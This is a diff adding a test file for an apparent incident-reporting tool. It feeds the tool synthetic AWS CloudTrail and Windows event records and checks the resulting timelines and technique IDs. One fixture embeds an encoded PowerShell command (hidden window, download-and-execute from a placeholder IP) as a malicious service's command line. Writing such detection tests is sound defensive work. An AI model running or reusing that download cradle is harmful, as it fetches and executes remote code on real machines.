@@ -1,0 +1,137 @@
+"""Incidents of a few records: what a single act must be told as, where nothing else explains it."""
+
+from __future__ import annotations
+
+import json
+from collections.abc import Callable, Iterable
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from .conftest import Told
+from .making import Day, Scenario, zulu
+
+pytestmark = pytest.mark.timeout(300)
+Tell = Callable[[Scenario], Told]
+DAY = Day("2026-02-11")
+
+
+def small(name: str, records: Iterable[dict[str, Any]]) -> Scenario:
+    """A scenario of JSON lines, with nothing to be scored."""
+    lines = [json.dumps(r) for r in records]
+
+    def write(folder: Path) -> None:
+        (folder / "records.json").write_text("\n".join(lines) + "\n")
+
+    truth = {"case": name, "techniques": [], "facts": [], "order": [], "attack_window": {
+        "start": "2026-02-11T00:00:00Z", "end": "2026-02-11T23:00:00Z"}}  # fmt: skip
+    return Scenario(name, write, truth)
+
+
+def call(name: str, service: str, clock: str, agent: str, **request: Any) -> dict[str, Any]:
+    """A CloudTrail record of one user and key."""
+    return {
+        "eventVersion": "1.09", "eventTime": zulu(DAY.at(clock)), "eventName": name, "eventSource": f"{service}.amazonaws.com",
+        "awsRegion": "eu-north-1", "sourceIPAddress": "198.51.100.61", "userAgent": agent, "eventType": "AwsApiCall",
+        "requestParameters": request or None, "responseElements": None, "recipientAccountId": "224466880011",
+        "userIdentity": {"type": "IAMUser", "arn": "arn:aws:iam::224466880011:user/orla", "accountId": "224466880011",
+                         "accessKeyId": "AKIAQ7ORLAQ7ORLAQ7OR", "userName": "orla"},
+    }  # fmt: skip
+
+
+CLI = "aws-cli/2.17.9 md/awscrt#0.20.11 ua/2.0 os/macos#23.5.0"
+
+
+def said(told: Told) -> tuple[str, set[str]]:
+    """All summaries of the timeline, and the techniques."""
+    report = told.report
+    return " ".join(e["summary"] for e in report["timeline"]), {t["id"] for t in report["techniques"]}
+
+
+def test_many_secrets_read_are_told_though_each_alone_says_little(tell: Tell) -> None:
+    calls = [
+        call("GetParameters", "ssm", f"09:10:{n:02d}", CLI, names=[f"/pay/{n}"], withDecryption=True) for n in range(6)
+    ]
+    text, techniques = said(tell(small("secrets", calls)))
+    assert "GetParameters" in text
+    assert "T1555.006" in techniques
+
+
+def test_an_agent_made_for_attacks_is_told_for_what_it_calls(tell: Tell) -> None:
+    agent = "aws-cli/1.22.4 Python/3.11.9 Linux/6.6.15-kali-amd64 botocore/1.23.4"
+    text, techniques = said(
+        tell(
+            small(
+                "kali",
+                [
+                    call(
+                        "ModifyInstanceAttribute",
+                        "ec2",
+                        "11:00:00",
+                        agent,
+                        instanceId="i-0c9d8e7f6a5b4c3d2",
+                        userData="…",
+                    )
+                ],
+            )
+        )
+    )
+    assert "ModifyInstanceAttribute on i-0c9d8e7f6a5b4c3d2" in text
+    assert "T1037" in techniques
+
+
+def test_one_listing_accuses_nobody(tell: Tell) -> None:
+    scenario = small("listing", [call("ListUsers", "iam", "08:00:00", CLI), call("ListRoles", "iam", "08:00:09", CLI)])
+    with pytest.raises(AssertionError, match="nothing was found"):
+        tell(scenario)
+
+
+def windows(clock: str, code: int, channel: str, **data: Any) -> dict[str, Any]:
+    """A flat record as NXLog ships it: the number of the logging service stands where Sysmon's own should."""
+    provider = "Microsoft-Windows-Sysmon" if "Sysmon" in channel else "Microsoft-Windows-Security-Auditing"
+    return {
+        "EventTime": f"2026-02-11 {clock}", "@timestamp": zulu(DAY.at(clock), 3), "Hostname": "OPS-31.brae.example", "EventID": code,
+        "SourceName": provider, "Channel": channel, "ExecutionProcessID": 2280, **data,
+    }  # fmt: skip
+
+
+SYSMON, SECURITY = "Microsoft-Windows-Sysmon/Operational", "Security"
+SHELL = r"C:\Windows\System32\cmd.exe"
+COMMAND = (
+    r"C:\Windows\system32\cmd.exe /C C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe -nop -w hidden -enc "
+    + (
+        "SQBFAFgAIAAoAG4AZQB3AC0AbwBiAGoAZQBjAHQAIABuAGUAdAAuAHcAZQBiAGMAbABpAGUAbgB0ACkALgBkAG8AdwBuAGwAbwBhAGQAcwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMQA5ADgALgA1ADEALgAxADAAMAAuADcANwAvAGEAJwApAA=="
+    )
+)
+REMOTE_SERVICE = (
+    windows("13:20:01.100", 4624, SECURITY, TargetUserName="tamsin", TargetDomainName="BRAE", LogonType="3",
+            IpAddress="10.40.0.18", IpPort="50211", TargetLogonId="0x9a11f"),
+    windows("13:20:01.400", 4697, SECURITY, SubjectUserName="tamsin", SubjectDomainName="BRAE", ServiceName="KQTRNZ",
+            ServiceFileName=COMMAND, ServiceType="0x10", ServiceStartType="3", ServiceAccount="LocalSystem"),
+    windows("13:20:01.700", 4688, SECURITY, SubjectUserName="OPS-31$", SubjectDomainName="BRAE", NewProcessId="0x1126",
+            NewProcessName=SHELL, ProcessId="0x2bc", CommandLine=COMMAND),
+    windows("13:20:01.750", 1, SYSMON, UtcTime="2026-02-11 13:20:01.690", ProcessGuid="{5e0c-01}", Image=SHELL, CommandLine=COMMAND,
+            User=r"NT AUTHORITY\SYSTEM", ParentProcessId="700", ParentImage=r"C:\Windows\System32\services.exe",
+            ParentProcessGuid="{5e0c-00}", Hashes="SHA256=" + "5C" * 32),
+)  # fmt: skip
+
+
+def test_a_service_from_afar_is_told_with_the_logon_that_opened_the_way_and_each_start_once(tell: Tell) -> None:
+    told = tell(small("service", REMOTE_SERVICE))
+    summaries = [e["summary"] for e in told.report["timeline"]]
+    order = [
+        next(n for n, s in enumerate(summaries) if w in s)
+        for w in ("BRAE\\tamsin logged on", "KQTRNZ was installed", "started cmd.exe")
+    ]
+    assert order == sorted(order)
+    starts = [s for s in summaries if "started cmd.exe" in s]
+    assert len(starts) == 1
+    assert "(pid 4390)" in starts[0]
+    assert "NT AUTHORITY\\SYSTEM" in starts[0]
+    assert {"T1021.002", "T1543.003"} <= said(told)[1]
+
+
+def test_a_cleared_log_is_told_though_nobody_is_named(tell: Tell) -> None:
+    told = tell(small("cleared", [windows("07:00:00.000", 1102, SECURITY)]))
+    assert said(told)[0] == "The Security event log on OPS-31 was cleared."
